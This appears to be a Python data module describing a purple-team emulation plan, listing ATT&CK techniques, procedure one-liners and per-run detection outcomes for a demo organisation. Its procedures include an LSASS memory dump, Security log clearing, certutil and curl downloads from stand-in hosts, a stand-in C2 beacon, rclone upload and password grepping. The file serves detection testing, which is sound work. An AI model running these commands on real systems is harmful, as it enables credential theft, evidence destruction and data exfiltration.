"""The plan that the demo organisation runs every quarter: what is run, where, and how each run ended.

Inspired by how a well-known espionage group works, on real ATT&CK ids; procedures are harmless one-liners of our own.
`outcomes` has a letter a run: P prevented, p prevented silently, D detected, L only logged, N missed, F the attack
failed by itself, U nobody knows whether it ran.
"""

from dataclasses import dataclass
from typing import Final

CORPORATE: Final = "Corporate"
PRODUCTION: Final = "Production"
RUNS: Final = 4
BROKEN_RUN: Final = 2
"""Run (from 0) during which the forwarder of the workstations' logs was broken."""
BEFORE_RULE: Final = 1
"""First run of rules that were written because the run before it had missed."""


@dataclass(frozen=True, slots=True)
class Item:
    """One procedure of the plan."""

    technique: str
    name: str
    procedure: str
    outcomes: str
    sees: str
    """The tool that sees it, when one does."""
    cause: str = "no_rule"
    """Why it is missed, when it is and the forwarder works."""
    rule: str | None = None
    forwarded: bool = False
    """Whether seeing it depends on the workstations' log forwarder."""
    noisy: bool = False
    """Whether the noisy rule looks at it."""
    environment: str = CORPORATE
    platform: str = "Windows"
    host: str = "ws-0142.corp.example"


def _production(
    technique: str, name: str, procedure: str, outcomes: str, *, cause: str = "no_rule", **more: str | bool
) -> Item:
    sees, rule, noisy = str(more.get("sees", "siem")), more.get("rule"), bool(more.get("noisy"))
    return Item(
        technique,
        name,
        procedure,
        outcomes,
        sees,
        cause,
        rule=str(rule) if rule else None,
        noisy=noisy,
        environment=PRODUCTION,
        platform="Linux",
        host="app-03.prod.example",
    )


PLAN: Final[tuple[Item, ...]] = (
    Item("T1566.001", "Mail with a macro document", "Send invoice.docm to the test mailbox.", "DPPP", "mail"),
    Item("T1204.002", "Opening the macro document", "Open invoice.docm and allow its content.", "DDPP", "edr"),
    Item(
        "T1059.001",
        "Encoded PowerShell",
        "powershell.exe -NoProfile -EncodedCommand VwByAGkAdABlAC0ASABvAHMAdAAgAHQAZQBzAHQA",
        "LDND",
        "siem",
        rule="encoded-powershell",
        forwarded=True,
    ),
    Item(
        "T1059.003",
        "Batch file from a temporary folder",
        r"cmd.exe /c %TEMP%\collect.bat",
        "LLNL",
        "siem",
        forwarded=True,
    ),
    Item(
        "T1053.005",
        "Scheduled task at log-on",
        "schtasks /create /tn Updater /sc onlogon /tr calc.exe",
        "NDND",
        "siem",
        rule="new-scheduled-task",
        forwarded=True,
    ),
    Item(
        "T1547.001",
        "Run key",
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d calc.exe",
        "DDDP",
        "edr",
    ),
    Item(
        "T1003.001",
        "Reading the memory of LSASS",
        r"rundll32.exe comsvcs.dll, MiniDump <pid of lsass> %TEMP%\out.dmp full",
        "DpPP",
        "edr",
        host="ws-0207.corp.example",
    ),
    Item("T1087.002", "Listing domain accounts", "net user /domain", "LLNL", "siem", forwarded=True),
    Item("T1018", "Listing remote systems", "nltest /dclist:corp.example", "NLLL", "siem", cause="no_telemetry"),
    Item("T1082", "System information", "systeminfo.exe", "LLLL", "edr"),
    Item(
        "T1021.001",
        "Remote desktop with a borrowed account",
        "mstsc.exe /v:fs-02.corp.example",
        "LDND",
        "siem",
        forwarded=True,
        noisy=True,
    ),
    Item(
        "T1021.002",
        "Copying a tool to an administrative share",
        r"copy tool.exe \\fs-02.corp.example\C$\Windows\Temp",
        "NDND",
        "siem",
        rule="admin-share-copy",
        forwarded=True,
        noisy=True,
    ),
    Item(
        "T1550.002",
        "Pass the hash to the file server",
        "Log on to fs-02.corp.example with the hash of the test account.",
        "NNNN",
        "siem",
        forwarded=True,
        host="fs-02.corp.example",
    ),
    Item(
        "T1070.001",
        "Clearing the security log",
        "wevtutil.exe cl Security",
        "DDND",
        "siem",
        rule="log-cleared",
        forwarded=True,
    ),
    Item("T1036.005", "A tool named like a system file", r"copy tool.exe %TEMP%\svchost.exe", "NNLD", "edr"),
    Item("T1071.001", "Beacon over HTTPS", "curl.exe https://c2.test.example/ping", "DDDD", "proxy"),
    Item(
        "T1105",
        "Fetching a tool with certutil",
        "certutil.exe -urlcache -f https://files.test.example/tool.exe tool.exe",
        "UDDP",
        "proxy",
    ),
    Item(
        "T1567.002",
        "Upload to a cloud drive",
        "rclone.exe copy C:\\Staging remote:test",
        "NNLD",
        "proxy",
        host="ws-0207.corp.example",
    ),
    _production("T1059.004", "Shell from the web service", "sh -c 'id; uname -a'", "NLLD"),
    _production(
        "T1053.003",
        "Job in the crontab",
        "echo '* * * * * /tmp/job' | crontab -",
        "NNLD",
        cause="no_telemetry",
        rule="crontab-change",
    ),
    _production(
        "T1021.004", "Log-on by SSH with a stolen key", "ssh -i key ops@app-03.prod.example", "DDDD", noisy=True
    ),
    _production(
        "T1552.001", "Credentials in files", "grep -ri password /srv/app", "NNNL", cause="no_sensor", sees="edr"
    ),
    _production("T1548.003", "Misuse of sudo", "sudo -u root id", "LDFD", rule="sudo-misuse"),
    _production("T1105", "Fetching a tool with curl", "curl -O https://files.test.example/tool", "DDDU", sees="proxy"),
)

EXPECTED_LOGGED: Final = ("T1018", "T1082", "T1087.002")
"""Techniques of which the organisation wants a log line and no alert."""

OUT_OF_SCOPE: Final[tuple[tuple[str, str, str], ...]] = (
    ("T1200", CORPORATE, "Needs access to the building; physical security tests that once a year."),
    ("T1091", CORPORATE, "Removable media are switched off by policy on every workstation."),
    ("T1495", PRODUCTION, "Could destroy hardware; not tested on production machines."),
)
